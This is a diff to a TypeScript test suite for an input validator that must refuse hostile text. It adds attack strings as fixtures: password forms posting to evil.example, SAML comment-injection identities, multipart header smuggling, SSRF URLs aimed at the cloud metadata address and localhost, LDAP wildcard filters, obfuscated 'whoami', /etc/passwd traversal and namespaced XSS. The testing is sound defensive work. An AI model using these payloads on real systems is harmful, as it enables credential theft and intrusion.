@@ -84,6 +84,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'a\r\nm=audio 9000 RTP/AVP 0',
       'photo.jpg"; filename="x.php"\r\n\r\nx',
       'photo.jpg"; name="admin"\r\n\r\ntrue',
+      'photo.jpg"; filename="a"; name="admin"\ntrue',
       'Ann\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Eve',
       'a\u001b%-12345X@PJL INITIALIZE',
       'a\u001b]52;c;aWQ=\u0007',
@@ -224,6 +225,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '+A1+SUM(A2:A9)',
       '-1 + hyperlink("a")',
       'javascript and js: append()',
+      'import x from "java"; fastTest(y)',
       "new Imagick('photo.jpg')",
       'new DirectoryIterator(__DIR__)',
       "symlink('a','b')",
@@ -325,6 +327,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'ann@example.com<!---->.evil.example',
       '<NameID>ann@example.com<!-- a -->.evil.example</NameID>',
       '<saml:NameID Format="a">ann<!-- a -->.evil</saml:NameID>',
+      '<!-- a --><NameID>ann@a.example<!---->.evil.example</NameID>',
+      '<a>\n<NameID>ann@a.example<!---->.evil.example</NameID>\n</a>',
       'Ann</owner></account><account><owner>Eve',
       ']]></note><limit>9</limit><note><![CDATA[',
     ],
@@ -357,10 +361,15 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
     hostile: [
       '<form action="https://evil.example/in" method="post"><input type="password" name="p"></form>',
       '<FORM ACTION=//evil.example><INPUT NAME=u><INPUT TYPE=PASSWORD NAME=p></FORM>',
+      '<form\naction=//evil.example><input\ntype=password></form>',
+      '<form/action=//evil.example><input/type=password></form>',
+      '<form id="a"action=//evil.example><input name="p"type=password></form>',
+      '<form id=f action=//evil.example></form><input form=f type=password>',
     ],
     honest: [
       '<form action="https://shop.example/search"><input name=q></form> choose type=password for the field',
       '<form data-action="https://shop.example/in"><input type="password"></form>',
+      '<form action="https://shop.example/s"><input name=q></form><form action="/in"><input type=password></form>',
       '<form action="/search"><input type="text" name="q"></form>',
       '<form action="https://lists.example.com/subscribe" method="post"><input type="email" name="e"></form>',
     ],
@@ -385,10 +394,12 @@ describe('where a URL or a path leads, spelled otherwise', () => {
     'http://169.254.169.25[4-5]/latest/',
     'http://{a,127.0.0.1}/',
     'http://1[0-2]7.0.0.1/',
+    'http://[2130706433-2130706434]/',
     'http://10.[0-3].0.1/',
     'http://{a,b,c,d,e,f,g}.{h,i,j,k,127.0.0.1}/',
     '/static../app/settings.py',
     'dc=a,dc=example??sub?(|(cn=*)(pin=*))',
+    'dc=a,dc=example??SUB?(|(cn=*)(pin=*))',
     '&w^h^o^a^m^i^ /a^l^l',
     // A compatibility mapping writes the leader out (UAX 15).
     '‥/‥/‥/etc/passwd',
@@ -443,6 +454,7 @@ describe('what is written as no command is, by anybody’s shell or database', (
     '<a xmlns:b="http://www.w3.org/1999/xhtml"><b:script>alert(1)</b:script></a>',
     '<a xmlns:c="urn:x" xmlns:b="http://www.w3.org/2000/svg"><c:script>alert(1)</c:script></a>',
     '<c:script>alert(1)</c:script>',
+    '<a xmlns:svg="urn:x"/><svg:script>alert(1)</svg:script>',
   ])('is refused: %j', (text) => {
     expect(isRefused('json', text)).toBe(true)
   })
